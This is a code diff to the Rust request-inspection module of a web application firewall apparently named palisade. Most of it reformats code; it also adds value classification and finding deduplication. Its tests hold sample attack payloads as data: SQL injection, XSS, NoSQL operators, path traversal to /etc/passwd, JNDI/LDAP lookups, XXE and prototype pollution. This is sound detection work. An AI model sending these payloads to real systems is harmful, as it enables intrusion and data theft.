@@ -2,10 +2,13 @@
 //! which checks run on them, and how signals become scored findings.
 
 use crate::checks::{self, Confidence, Signal, Value};
-use crate::decode::{html_decode_into, normalize_bytes_into, percent_decode_into, plain_base64, MAX_URL_DECODE_ROUNDS};
+use crate::decode::{
+    html_decode_into, normalize_bytes_into, percent_decode_into, plain_base64,
+    MAX_URL_DECODE_ROUNDS,
+};
 use crate::extract;
 use crate::json::{self, JsonItemKind};
-use crate::value::{is_inert_shape, is_prose, Source, ValueContext};
+use crate::value::{is_inert_shape, Source, ValueContext};
 use crate::xml::{self, XmlItemKind};
 use palisade_core::{Category, Detector, Finding, Location, Phase, Severity, Transaction};
 use serde::Deserialize;
@@ -119,7 +122,12 @@ impl NativeDetector {
 
     /// Inspects a request body of the given media type (lowercase, no parameters);
     /// `content_type` is the full header value (for the multipart boundary).
-    pub fn inspect_body(&self, media_type: Option<&str>, content_type: &[u8], body: &[u8]) -> Vec<Finding> {
+    pub fn inspect_body(
+        &self,
+        media_type: Option<&str>,
+        content_type: &[u8],
+        body: &[u8],
+    ) -> Vec<Finding> {
         let mut inspector = Inspector::new(&self.config);
         inspector.body(media_type, content_type, body);
         inspector.finish()
@@ -168,6 +176,63 @@ impl Detector for NativeDetector {
     }
 }
 
+const CLASS_PLAIN: u8 = 1;
+const CLASS_DECODE: u8 = 2;
+const CLASS_UPPER: u8 = 4;
+const CLASS_LOWER: u8 = 8;
+
+/// Byte classes for the one pass `value` makes before anything else.
+static BYTE_CLASS: [u8; 256] = {
+    let mut table = [0u8; 256];
+    let mut b = 0usize;
+    while b < 256 {
+        let byte = b as u8;
+        table[b] = match byte {
+            b'a'..=b'z' => CLASS_PLAIN | CLASS_LOWER,
+            b'A'..=b'Z' => CLASS_PLAIN | CLASS_UPPER,
+            b'0'..=b'9' | b'_' | b'-' => CLASS_PLAIN,
+            b'%' | b'&' | 0 => CLASS_DECODE,
+            0x80..=0xff => CLASS_DECODE,
+            _ => 0,
+        };
+        b += 1;
+    }
+    table
+};
+
+/// What one pass over a raw value says: whether it needs decoding, and
+/// whether it is a plain token (identifier, number, single-case code such
+/// as `created_at`, `SKU-000123`, `42`) that no check can match and that is
+/// not mixed-case enough to be base64 text.
+fn classify_raw(raw: &[u8]) -> (bool, bool) {
+    let mut any = 0u8;
+    let mut all_plain = CLASS_PLAIN;
+    for &b in raw {
+        let class = BYTE_CLASS.get(usize::from(b)).copied().unwrap_or(0);
+        any |= class;
+        all_plain &= class;
+    }
+    let mixed_case = any & (CLASS_UPPER | CLASS_LOWER) == CLASS_UPPER | CLASS_LOWER;
+    let plain = all_plain != 0 && !(mixed_case && raw.len() >= 8);
+    (any & CLASS_DECODE != 0, plain)
+}
+
+/// Whether a body of unknown type is text worth inspecting: its first KiB is
+/// valid UTF-8 (allowing a cut final character) with few control bytes.
+/// Compressed and binary uploads are not.
+fn looks_textual(body: &[u8]) -> bool {
+    let head = body.get(..body.len().min(1024)).unwrap_or(body);
+    let valid = match std::str::from_utf8(head) {
+        Ok(_) => true,
+        Err(e) => e.valid_up_to() + 4 >= head.len(),
+    };
+    let controls = head
+        .iter()
+        .filter(|b| **b < 0x20 && !matches!(b, b'\t' | b'\n' | b'\r'))
+        .count();
+    valid && controls * 100 <= head.len()
+}
+
 fn category_bit(category: Category) -> u32 {
     NATIVE_CATEGORIES
         .iter()
@@ -190,12 +255,18 @@ struct Inspector<'c> {
     truncated: bool,
 }
 
+/// A multipart part copied out of the body: name, file name, content type, content.
+type OwnedPart = (String, Option<Vec<u8>>, Vec<u8>, Vec<u8>);
+
 /// Most score weak signals may add to one request together.
 const WEAK_BUDGET: u32 = 4;
 
 impl<'c> Inspector<'c> {
     fn new(config: &'c NativeConfig) -> Self {
-        let enabled = config.categories.iter().fold(0, |m, c| m | category_bit(*c));
+        let enabled = config
+            .categories
+            .iter()
+            .fold(0, |m, c| m | category_bit(*c));
         Inspector {
             config,
             enabled,
@@ -247,16 +318,27 @@ impl<'c> Inspector<'c> {
         }
         let location = location();
         let rule_id = format!("palisade.{}", sig.rule);
-        if self
-            .findings
-            .iter()
-            .any(|f| f.location == location && f.category == sig.category)
-        {
-            return;
-        }
         let mut score = sig.confidence.score();
         if let Some(s) = self.config.scores.get(&sig.category) {
             score = *s;
+        }
+        // One finding per category and location: the strongest.
+        if let Some(existing) = self
+            .findings
+            .iter()
+            .position(|f| f.location == location && f.category == sig.category)
+        {
+            if self
+                .findings
+                .get(existing)
+                .is_some_and(|f| f.score >= score)
+            {
+                return;
+            }
+            let replaced = self.findings.remove(existing);
+            if replaced.severity == Severity::Notice {
+                self.weak_total = self.weak_total.saturating_sub(replaced.score);
+            }
         }
         if sig.confidence == Confidence::Weak {
             if self.weak_total + score > WEAK_BUDGET {
@@ -273,25 +355,41 @@ impl<'c> Inspector<'c> {
         let end = (start + 120).min(evidence_from.len());
         let evidence = String::from_utf8_lossy(evidence_from.get(start..end).unwrap_or(&[]));
         self.findings.push(
-            Finding::new(rule_id, sig.category, severity, location, &evidence, sig.message).with_score(score),
+            Finding::new(
+                rule_id,
+                sig.category,
+                severity,
+                location,
+                &evidence,
+                sig.message,
+            )
+            .with_score(score),
         );
     }
 
     /// Decodes `raw` through the attacker's layers into `self.decoded`.
     fn decode(&mut self, raw: &[u8]) {
-        let raw = raw.get(..self.config.max_value_bytes.min(raw.len())).unwrap_or(raw);
+        let raw = raw
+            .get(..self.config.max_value_bytes.min(raw.len()))
+            .unwrap_or(raw);
         self.decoded.clear();
         self.decoded.extend_from_slice(raw);
         for _ in 0..MAX_URL_DECODE_ROUNDS {
-            if memchr::memchr(b'%', &self.decoded).is_none() || !percent_decode_into(&self.decoded, false, &mut self.tmp) {
+            if memchr::memchr(b'%', &self.decoded).is_none()
+                || !percent_decode_into(&self.decoded, false, &mut self.tmp)
+            {
                 break;
             }
             std::mem::swap(&mut self.decoded, &mut self.tmp);
         }
-        if memchr::memchr(b'&', &self.decoded).is_some() && html_decode_into(&self.decoded, &mut self.tmp) {
+        if memchr::memchr(b'&', &self.decoded).is_some()
+            && html_decode_into(&self.decoded, &mut self.tmp)
+        {
             std::mem::swap(&mut self.decoded, &mut self.tmp);
         }
-        if self.decoded.iter().any(|b| *b >= 0x80 || *b == 0) && normalize_bytes_into(&self.decoded, &mut self.tmp) {
+        if self.decoded.iter().any(|b| *b >= 0x80 || *b == 0)
+            && normalize_bytes_into(&self.decoded, &mut self.tmp)
+        {
             std::mem::swap(&mut self.decoded, &mut self.tmp);
         }
     }
@@ -301,19 +399,60 @@ impl<'c> Inspector<'c> {
         if raw.is_empty() || !self.budget() {
             return;
         }
-        self.decode(raw);
-        let decoded = std::mem::take(&mut self.decoded);
-        if !is_inert_shape(&decoded) {
-            self.analyze(&decoded, source, name, location);
+        let raw = raw
+            .get(..self.config.max_value_bytes.min(raw.len()))
+            .unwrap_or(raw);
+        let (needs_decoding, plain) = classify_raw(raw);
+        if plain {
+            return;
         }
-        if self.config.decode_base64 && decoded.len() >= 16 {
+        let decoded = if needs_decoding {
+            self.decode(raw);
+            std::mem::take(&mut self.decoded)
+        } else {
+            Vec::new()
+        };
+        let view: &[u8] = if needs_decoding { &decoded } else { raw };
+        self.analyze_or_clear(view, source, name, location);
+        if self.config.decode_base64 && view.len() >= 8 {
             let mut b64 = std::mem::take(&mut self.base64);
-            if plain_base64(&decoded, &mut b64) && !is_inert_shape(&b64) {
-                self.analyze(&b64, source, name, location);
+            if plain_base64(view, &mut b64) {
+                self.analyze_or_clear(&b64, source, name, location);
             }
             self.base64 = b64;
         }
-        self.decoded = decoded;
+        if needs_decoding {
+            self.decoded = decoded;
+        }
+    }
+
+    /// Inert shapes get only the address check (a bare `169.254.169.254`
+    /// is inert text but not an inert URL parameter); the rest gets every check.
+    fn analyze_or_clear(
+        &mut self,
+        v: &[u8],
+        source: Source,
+        name: &str,
+        location: &dyn Fn() -> Location,
+    ) {
+        if !is_inert_shape(v) {
+            self.analyze(v, source, name, location);
+            return;
+        }
+        if source != Source::FileContent
+            && v.iter().any(|b| matches!(b, b'.' | b':'))
+            && v.len() <= 255
+        {
+            let mut lower = std::mem::take(&mut self.lower);
+            lower.clear();
+            lower.extend_from_slice(v);
+            lower.make_ascii_lowercase();
+            let ctx = ValueContext::new(source, name, b"");
+            if let Some(sig) = checks::url_checks(&Value::new(v, &lower), &ctx) {
+                self.emit(sig, location, v);
+            }
+            self.lower = lower;
+        }
     }
 
     fn analyze(&mut self, v: &[u8], source: Source, name: &str, location: &dyn Fn() -> Location) {
@@ -321,44 +460,45 @@ impl<'c> Inspector<'c> {
         lower.clear();
         lower.extend_from_slice(v);
         lower.make_ascii_lowercase();
-        let ctx = ValueContext {
-            source,
-            name,
-            prose: is_prose(v),
-        };
-        let value = Value { raw: v, lower: &lower };
+        let ctx = ValueContext::new(source, name, v);
+        let value = Value::new(v, &lower);
         let mut scratch = std::mem::take(&mut self.scratch);
-        let mut signals: [Option<Signal>; 14] = Default::default();
+        let report = |this: &mut Self, sig: Option<Signal>| {
+            if let Some(sig) = sig {
+                // Attack syntax in a name, key or path segment is not data.
+                let sig = if source.is_structural() && sig.confidence == Confidence::Medium {
+                    Signal {
+                        confidence: Confidence::Strong,
+                        ..sig
+                    }
+                } else {
+                    sig
+                };
+                this.emit(sig, location, v);
+            }
+        };
         if source == Source::FileContent {
-            signals[0] = checks::xxe(&value, &ctx);
-            signals[1] = checks::xss(&value, &ctx);
+            report(self, checks::xxe(&value, &ctx));
+            report(self, checks::xss(&value, &ctx));
         } else {
             let is_browser_url_header =
                 source == Source::Header && matches!(name, "referer" | "origin");
-            signals[0] = checks::sqli(&value, &ctx);
-            signals[1] = checks::xss(&value, &ctx);
-            signals[2] = checks::nosql(&value, &ctx);
-            signals[3] = checks::cmdi(&value, &ctx, &mut scratch);
-            signals[4] = checks::traversal(&value, &ctx);
+            report(self, checks::sqli(&value, &ctx));
+            report(self, checks::xss(&value, &ctx));
+            report(self, checks::nosql(&value, &ctx));
+            report(self, checks::cmdi(&value, &ctx, &mut scratch));
+            report(self, checks::traversal(&value, &ctx));
             if !is_browser_url_header {
-                signals[5] = checks::url_checks(&value, &ctx);
+                report(self, checks::url_checks(&value, &ctx));
             }
-            signals[6] = checks::ssti(&value, &ctx);
-            signals[7] = checks::ldap(&value, &ctx);
-            signals[8] = checks::xpath(&value, &ctx);
-            signals[9] = checks::xxe(&value, &ctx);
-            signals[10] = checks::crlf(&value, &ctx);
-            signals[11] = checks::jndi(&value, &mut scratch);
-            signals[12] = checks::prototype_value(&value);
-            signals[13] = checks::code(&value, &ctx);
-        }
-        for sig in signals.into_iter().flatten() {
-            let sig = if source.is_structural() && sig.confidence == Confidence::Medium {
-                Signal { confidence: Confidence::Strong, ..sig }
-            } else {
-                sig
-            };
-            self.emit(sig, location, v);
+            report(self, checks::ssti(&value, &ctx));
+            report(self, checks::ldap(&value, &ctx));
+            report(self, checks::xpath(&value, &ctx));
+            report(self, checks::xxe(&value, &ctx));
+            report(self, checks::crlf(&value, &ctx));
+            report(self, checks::jndi(&value, &mut scratch));
+            report(self, checks::prototype_value(&value));
+            report(self, checks::code(&value, &ctx));
         }
         self.scratch = scratch;
         self.lower = lower;
@@ -368,7 +508,9 @@ impl<'c> Inspector<'c> {
     fn name_checks(&mut self, name: &[u8], parent: &[u8], location: &dyn Fn() -> Location) {
         if let Some(sig) = checks::prototype_key(name) {
             self.emit(sig, location, name);
-        } else if name.eq_ignore_ascii_case(b"prototype") && parent.eq_ignore_ascii_case(b"constructor") {
+        } else if name.eq_ignore_ascii_case(b"prototype")
+            && parent.eq_ignore_ascii_case(b"constructor")
+        {
             if let Some(sig) = checks::prototype_key(b"constructor.prototype") {
                 self.emit(sig, location, name);
             }
@@ -416,14 +558,18 @@ impl<'c> Inspector<'c> {
                 let name_text = String::from_utf8_lossy(name);
                 let location = || Location::query(&name_text);
                 self.name_checks(name, b"", &location);
-                self.value(name, Source::ParamName, "", &|| Location::new(format!("query.{name_text}.name")));
+                self.value(name, Source::ParamName, "", &|| {
+                    Location::new(format!("query.{name_text}.name"))
+                });
                 self.value(value, Source::QueryValue, &name_text, &location);
             }
         }
         for header in headers {
             for value in head.headers.get_all(header) {
                 let name = header.as_str();
-                self.value(value.as_bytes(), Source::Header, name, &|| Location::header(name));
+                self.value(value.as_bytes(), Source::Header, name, &|| {
+                    Location::header(name)
+                });
             }
         }
         if self.config.cookies {
@@ -437,6 +583,9 @@ impl<'c> Inspector<'c> {
                 let name_text = String::from_utf8_lossy(name);
                 let location = || Location::cookie(&name_text);
                 self.name_checks(name, b"", &location);
+                self.value(name, Source::ParamName, "", &|| {
+                    Location::new(format!("cookie.{name_text}.name"))
+                });
                 self.value(value, Source::Cookie, &name_text, &location);
             }
         }
@@ -446,12 +595,20 @@ impl<'c> Inspector<'c> {
                 if headers.contains(name) || name == http::header::COOKIE {
                     continue;
                 }
-                let bytes = value.as_bytes();
-                if memchr::memmem::find(bytes, b"${").is_none() {
+                let raw = value.as_bytes();
+                let encoded = memchr::memmem::find(&raw.to_ascii_lowercase(), b"%24%7b").is_some();
+                if memchr::memmem::find(raw, b"${").is_none() && !encoded {
                     continue;
                 }
+                let mut decoded_buf = Vec::new();
+                let bytes: &[u8] = if encoded {
+                    percent_decode_into(raw, false, &mut decoded_buf);
+                    &decoded_buf
+                } else {
+                    raw
+                };
                 let lower = bytes.to_ascii_lowercase();
-                let v = Value { raw: bytes, lower: &lower };
+                let v = Value::new(bytes, &lower);
                 let mut scratch = std::mem::take(&mut self.scratch);
                 if let Some(sig) = checks::jndi(&v, &mut scratch) {
                     let n = name.as_str();
@@ -471,46 +628,50 @@ impl<'c> Inspector<'c> {
     }
 
     fn body(&mut self, media_type: Option<&str>, content_type: &[u8], body: &[u8]) {
-        let body = body.get(..self.config.max_body_bytes.min(body.len())).unwrap_or(body);
+        let body = body
+            .get(..self.config.max_body_bytes.min(body.len()))
+            .unwrap_or(body);
         let media = media_type.unwrap_or("");
         let trimmed = body.trim_ascii_start();
-        if media.ends_with("json") || (media.is_empty() || media == "text/plain") && matches!(trimmed.first(), Some(b'{' | b'[')) {
+        if media.ends_with("json")
+            || (media.is_empty() || media == "text/plain")
+                && matches!(trimmed.first(), Some(b'{' | b'['))
+        {
             self.json_body(body);
         } else if media == "application/x-www-form-urlencoded" {
             self.form_body(body);
         } else if media.starts_with("multipart/") {
             self.multipart_body(content_type, body);
-        } else if media.ends_with("xml") || (media.is_empty() || media == "text/plain") && trimmed.first() == Some(&b'<') {
+        } else if media.ends_with("xml")
+            || (media.is_empty() || media == "text/plain") && trimmed.first() == Some(&b'<')
+        {
             self.xml_body(body);
         } else if media == "application/graphql" {
             self.graphql(body, "body");
-        } else {
+        } else if looks_textual(body) {
             self.value(body, Source::RawBody, "", &|| Location::new("body"));
         }
     }
 
     fn json_body(&mut self, body: &[u8]) {
-        let mut items: Vec<(JsonItemKind, String, Vec<u8>, Vec<u8>)> = Vec::new();
-        let scan = json::scan(body, self.config.max_values, &mut |item| {
-            items.push((item.kind, item.path.to_string(), item.value.to_vec(), item.parent_key.to_vec()));
-        });
-        for (kind, path, value, parent) in &items {
-            let location = || Location::json(path);
-            match kind {
+        let max = self.config.max_values;
+        let scan = json::scan(body, max, &mut |item| {
+            let location = || Location::json(&item.path());
+            match item.kind {
                 JsonItemKind::Key => {
-                    self.name_checks(value, parent, &location);
-                    self.value(value, Source::JsonKey, "", &location);
+                    self.name_checks(item.value, item.parent_key, &location);
+                    self.value(item.value, Source::JsonKey, "", &location);
                 }
                 JsonItemKind::String => {
-                    let name = String::from_utf8_lossy(parent);
-                    if name == "query" && extract::looks_like_graphql(value) {
-                        self.graphql(value, &format!("json.{path}"));
+                    let name = String::from_utf8_lossy(item.parent_key);
+                    if name == "query" && extract::looks_like_graphql(item.value) {
+                        self.graphql(item.value, &format!("json.{}", item.path()));
                     } else {
-                        self.value(value, Source::JsonValue, &name, &location);
+                        self.value(item.value, Source::JsonValue, &name, &location);
                     }
                 }
             }
-        }
+        });
         if !scan.well_formed {
             self.value(body, Source::RawBody, "", &|| Location::new("body"));
         }
@@ -518,7 +679,9 @@ impl<'c> Inspector<'c> {
 
     fn graphql(&mut self, doc: &[u8], location: &str) {
         let mut strings: Vec<Vec<u8>> = Vec::new();
-        extract::for_each_graphql_string(doc, self.config.max_values, &mut |s| strings.push(s.to_vec()));
+        extract::for_each_graphql_string(doc, self.config.max_values, &mut |s| {
+            strings.push(s.to_vec())
+        });
         for s in &strings {
             self.value(s, Source::GraphqlArgument, "", &|| Location::new(location));
         }
@@ -526,12 +689,16 @@ impl<'c> Inspector<'c> {
 
     fn form_body(&mut self, body: &[u8]) {
         let mut pairs: Vec<(Vec<u8>, Vec<u8>)> = Vec::new();
-        extract::for_each_pair(body, self.config.max_values, &mut |n, v| pairs.push((n.to_vec(), v.to_vec())));
+        extract::for_each_pair(body, self.config.max_values, &mut |n, v| {
+            pairs.push((n.to_vec(), v.to_vec()))
+        });
         for (name, value) in &pairs {
             let name_text = String::from_utf8_lossy(name);
             let location = || Location::form(&name_text);
             self.name_checks(name, b"", &location);
-            self.value(name, Source::ParamName, "", &|| Location::new(format!("form.{name_text}.name")));
+            self.value(name, Source::ParamName, "", &|| {
+                Location::new(format!("form.{name_text}.name"))
+            });
             self.value(value, Source::FormValue, &name_text, &location);
         }
     }
@@ -541,7 +708,7 @@ impl<'c> Inspector<'c> {
             self.value(body, Source::RawBody, "", &|| Location::new("body"));
             return;
         };
-        let mut parts: Vec<(String, Option<Vec<u8>>, Vec<u8>, Vec<u8>)> = Vec::new();
+        let mut parts: Vec<OwnedPart> = Vec::new();
         extract::for_each_part(body, boundary, self.config.max_values, &mut |p| {
             parts.push((
                 String::from_utf8_lossy(p.name).into_owned(),
@@ -561,7 +728,9 @@ impl<'c> Inspector<'c> {
                     let lower_name = filename.to_ascii_lowercase();
                     let markup = content_type.ends_with(b"xml")
                         || content_type.starts_with(b"text/html")
-                        || [&b".xml"[..], b".svg", b".html", b".htm", b".xhtml"].iter().any(|e| lower_name.ends_with(e));
+                        || [&b".xml"[..], b".svg", b".html", b".htm", b".xhtml"]
+                            .iter()
+                            .any(|e| lower_name.ends_with(e));
                     if markup {
                         self.value(content, Source::FileContent, name, &location);
                     }
@@ -587,8 +756,8 @@ impl<'c> Inspector<'c> {
             match kind {
                 XmlItemKind::Doctype | XmlItemKind::ProcessingInstruction => {
                     let lower = value.to_ascii_lowercase();
-                    let v = Value { raw: value, lower: &lower };
-                    let ctx = ValueContext { source: Source::XmlText, name: "", prose: false };
+                    let v = Value::new(value, &lower);
+                    let ctx = ValueContext::new(Source::XmlText, "", b"");
                     if let Some(sig) = checks::xxe(&v, &ctx) {
                         self.emit(sig, &location, value);
                     }
@@ -596,7 +765,9 @@ impl<'c> Inspector<'c> {
                 XmlItemKind::Text => self.value(value, Source::XmlText, "", &location),
                 XmlItemKind::Attribute => {
                     let name = path.rsplit('@').next().unwrap_or("").to_string();
-                    if name.eq_ignore_ascii_case("href") && path.to_ascii_lowercase().contains("include") {
+                    if name.eq_ignore_ascii_case("href")
+                        && path.to_ascii_lowercase().contains("include")
+                    {
                         self.emit(
                             Signal {
                                 category: Category::Xxe,
@@ -622,7 +793,12 @@ mod tests {
     use http::Method;
     use palisade_core::{DecisionPolicy, RequestHead};
 
-    fn run(method: Method, uri: &str, headers: &[(&str, &str)], body: Option<&str>) -> Vec<Finding> {
+    fn run(
+        method: Method,
+        uri: &str,
+        headers: &[(&str, &str)],
+        body: Option<&str>,
+    ) -> Vec<Finding> {
         let detector = NativeDetector::default();
         let mut head = RequestHead::synthetic(method, uri);
         for (n, v) in headers {
@@ -641,12 +817,20 @@ mod tests {
     }
 
     fn blocked(findings: &[Finding]) -> bool {
-        DecisionPolicy::default().decide(Phase::RequestBody, findings).action == palisade_core::Action::Blocked
+        DecisionPolicy::default()
+            .decide(Phase::RequestBody, findings)
+            .action
+            == palisade_core::Action::Blocked
     }
 
     #[test]
     fn query_sqli_is_blocked_with_location() {
-        let f = run(Method::GET, "/items?id=1%27%20or%20%271%27%3D%271&sort=name", &[], None);
+        let f = run(
+            Method::GET,
+            "/items?id=1%27%20or%20%271%27%3D%271&sort=name",
+            &[],
+            None,
+        );
         assert!(blocked(&f), "{f:?}");
         assert_eq!(f[0].rule_id, "palisade.sqli");
         assert_eq!(f[0].location.as_str(), "query.id");
@@ -659,10 +843,21 @@ mod tests {
             Method::POST,
             "/api/users",
             &[("content-type", "application/json")],
-            Some(r#"{"user":{"profile":{"bio":"<img src=x onerror=alert(1)>"}},"filter":{"password":{"$ne":null}}}"#),
+            Some(
+                r#"{"user":{"profile":{"bio":"<img src=x onerror=alert(1)>"}},"filter":{"password":{"$ne":null}}}"#,
+            ),
         );
-        assert!(f.iter().any(|x| x.location.as_str() == "json.$.user.profile.bio" && x.category == Category::Xss), "{f:?}");
-        assert!(f.iter().any(|x| x.category == Category::NosqlInjection && x.location.as_str() == "json.$.filter.password.$ne"), "{f:?}");
+        assert!(
+            f.iter()
+                .any(|x| x.location.as_str() == "json.$.user.profile.bio"
+                    && x.category == Category::Xss),
+            "{f:?}"
+        );
+        assert!(
+            f.iter().any(|x| x.category == Category::NosqlInjection
+                && x.location.as_str() == "json.$.filter.password.$ne"),
+            "{f:?}"
+        );
     }
 
     #[test]
@@ -684,30 +879,110 @@ mod tests {
     #[test]
     fn path_multipart_xml_headers() {
         let f = run(Method::GET, "/static/..%2f..%2fetc%2fpasswd", &[], None);
-        assert!(blocked(&f) && f[0].location.as_str().starts_with("path["), "{f:?}");
-        let f = run(Method::GET, "/", &[("user-agent", "${${lower:j}ndi:ldap://x.example/a}")], None);
-        assert!(blocked(&f) && f[0].location.as_str() == "header.user-agent", "{f:?}");
-        let f = run(Method::GET, "/", &[("x-custom", "${jndi:ldap://x.example/a}")], None);
+        assert!(
+            blocked(&f) && f[0].location.as_str().starts_with("path["),
+            "{f:?}"
+        );
+        let f = run(
+            Method::GET,
+            "/",
+            &[("user-agent", "${${lower:j}ndi:ldap://x.example/a}")],
+            None,
+        );
+        assert!(
+            blocked(&f) && f[0].location.as_str() == "header.user-agent",
+            "{f:?}"
+        );
+        let f = run(
+            Method::GET,
+            "/",
+            &[("x-custom", "${jndi:ldap://x.example/a}")],
+            None,
+        );
         assert!(blocked(&f), "{f:?}");
         let body = "--b\r\nContent-Disposition: form-data; name=\"doc\"; filename=\"../../../etc/cron.d/x\"\r\n\r\nx\r\n--b--\r\n";
-        let f = run(Method::POST, "/upload", &[("content-type", "multipart/form-data; boundary=b")], Some(body));
-        assert!(blocked(&f) && f[0].location.as_str() == "multipart.doc.filename", "{f:?}");
+        let f = run(
+            Method::POST,
+            "/upload",
+            &[("content-type", "multipart/form-data; boundary=b")],
+            Some(body),
+        );
+        assert!(
+            blocked(&f) && f[0].location.as_str() == "multipart.doc.filename",
+            "{f:?}"
+        );
         let xml = r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#;
-        let f = run(Method::POST, "/xml", &[("content-type", "application/xml")], Some(xml));
-        assert!(blocked(&f) && f.iter().any(|x| x.category == Category::Xxe), "{f:?}");
+        let f = run(
+            Method::POST,
+            "/xml",
+            &[("content-type", "application/xml")],
+            Some(xml),
+        );
+        assert!(
+            blocked(&f) && f.iter().any(|x| x.category == Category::Xxe),
+            "{f:?}"
+        );
         let f = run(Method::GET, "/a?__proto__[admin]=1", &[], None);
-        assert!(blocked(&f) && f[0].category == Category::PrototypePollution, "{f:?}");
+        assert!(
+            blocked(&f) && f[0].category == Category::PrototypePollution,
+            "{f:?}"
+        );
         let f = run(Method::GET, "/login?user[$ne]=x", &[], None);
-        assert!(blocked(&f) && f[0].category == Category::NosqlInjection, "{f:?}");
+        assert!(
+            blocked(&f) && f[0].category == Category::NosqlInjection,
+            "{f:?}"
+        );
+    }
+
+    proptest::proptest! {
+        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(64))]
+
+        #[test]
+        fn bodies_never_panic_and_are_deterministic(
+            body in proptest::collection::vec(proptest::prelude::any::<u8>(), 0..600),
+            media in 0usize..6,
+        ) {
+            let kinds: [(&str, &[u8]); 6] = [
+                ("application/json", b"application/json"),
+                ("application/x-www-form-urlencoded", b""),
+                ("multipart/form-data", b"multipart/form-data; boundary=b"),
+                ("application/xml", b""),
+                ("application/graphql", b""),
+                ("text/plain", b""),
+            ];
+            let (m, ct) = kinds[media];
+            let d = NativeDetector::default();
+            let a = d.inspect_body(Some(m), ct, &body);
+            let b = d.inspect_body(Some(m), ct, &body);
+            proptest::prop_assert_eq!(&a, &b);
+            for f in &a {
+                proptest::prop_assert!(f.evidence.as_str().chars().count() <= 1000);
+            }
+        }
+
+        #[test]
+        fn json_strings_anywhere_are_bounded(values in proptest::collection::vec(".{0,40}", 0..30)) {
+            let doc = serde_json::json!({"a": {"b": values.clone()}, "c": values}).to_string();
+            let d = NativeDetector::new(NativeConfig { max_values: 10, ..NativeConfig::default() });
+            let f = d.inspect_body(Some("application/json"), b"application/json", doc.as_bytes());
+            // at most one finding per category per location, over at most 10 values
+            proptest::prop_assert!(f.len() <= 10 * 2 * NATIVE_CATEGORIES.len() + 1);
+        }
     }
 
     #[test]
     fn config_deserializes_strictly() {
-        let c: NativeConfig = serde_json::from_str(r#"{"categories":["sql_injection"],"scores":{"sql_injection":3}}"#).expect("config");
+        let c: NativeConfig = serde_json::from_str(
+            r#"{"categories":["sql_injection"],"scores":{"sql_injection":3}}"#,
+        )
+        .expect("config");
         assert_eq!(c.categories, vec![Category::SqlInjection]);
         assert!(serde_json::from_str::<NativeConfig>(r#"{"bogus":1}"#).is_err());
         let d = NativeDetector::new(c);
-        let f = d.inspect_head(&RequestHead::synthetic(Method::GET, "/?q=%3Cscript%3Ealert(1)%3C/script%3E&id=1%20or%201=1"));
+        let f = d.inspect_head(&RequestHead::synthetic(
+            Method::GET,
+            "/?q=%3Cscript%3Ealert(1)%3C/script%3E&id=1%20or%201=1",
+        ));
         assert_eq!(f.len(), 1, "{f:?}");
         assert_eq!(f[0].score, 3);
     }
